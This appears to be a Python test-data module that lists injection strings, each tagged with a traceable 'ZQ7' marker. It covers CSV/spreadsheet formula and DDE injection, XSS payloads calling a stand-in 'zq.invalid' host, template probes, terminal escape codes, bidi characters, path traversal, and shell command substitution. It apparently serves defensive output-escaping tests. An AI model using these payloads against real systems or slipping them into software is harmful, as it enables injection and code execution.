"""Texts that would become something else where they come out: each bears the mark by which it is found again."""

from __future__ import annotations

MARK = "ZQ7"
LONG = 40_000
_BEGINNINGS = (
    '=HYPERLINK("http://zq.invalid/?"&A1,"x")', "=cmd|'/c calc'!A0", "+1", "-1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", " =1+1", "'=1+1",
    "<script>window.zq=1;fetch('http://zq.invalid')</script>", '"><img src=x onerror="window.zq=1">', "</td></table></script><svg/onload=window.zq=1>",
    "javascript:window.zq=1//", "http://zq.invalid/", "{{7*7}}", "{% raw %}", "{%p if 1 %}", "{{r 7 }}", "{#", "{unit}{0}%s%n", "]]><!--", "&lt;b&gt;&amp;",
    "\x0b", "\x1b[31m", "\x1b]8;;http://zq.invalid\x07", "\x9b2J", "\x00", "\x7f", "\u202e", "\u2066", "\u200b", "\ufeff", "\U000e0041", "\ud800", "_x000D_", "_x003D_1+1", "_x001B_[31m",
    "[/]", "[link=http://zq.invalid]", "[bold red]", "[:*?/\\]", "../../", "$(touch zq)`touch zq`", "\\", '"', "'",
)  # fmt: skip
TEXTS = (*(f"{begin}{MARK}{place:02d}" for place, begin in enumerate(_BEGINNINGS)), f"{MARK}99" + "A" * LONG)
SHORT = TEXTS[:-1]
"""Those that fit into a file's name."""
NAMES = tuple(
    f"{begin}{MARK}n{place}"
    for place, begin in enumerate((
        '=HYPERLINK("http://zq.invalid","x")', "<script>window.zq=1</script>", "{{7*7}}[/]\u202e_x000D_", "+1[link=http://zq.invalid]", "[:*?/\\]", "@SUM(1)\u202e",
        '"><img src=x onerror="window.zq=1">', "{% raw %}", "-1_x000D_", "’]|=1",
    ))
)  # fmt: skip
"""Texts for the analysts' own files, which take no control characters."""
